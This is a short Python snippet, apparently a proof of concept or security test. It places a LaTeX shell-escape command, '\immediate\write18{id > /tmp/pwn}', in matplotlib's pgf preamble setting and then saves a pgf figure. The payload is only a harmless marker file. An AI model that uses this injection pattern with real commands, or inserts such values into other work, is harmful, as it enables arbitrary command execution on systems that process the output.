import io, matplotlib.pyplot as plt
plt.rcParams['pgf.preamble'] = r'\immediate\write18{id > /tmp/pwn}'
plt.plot([1, 2]); plt.savefig(io.BytesIO(), format='pgf')
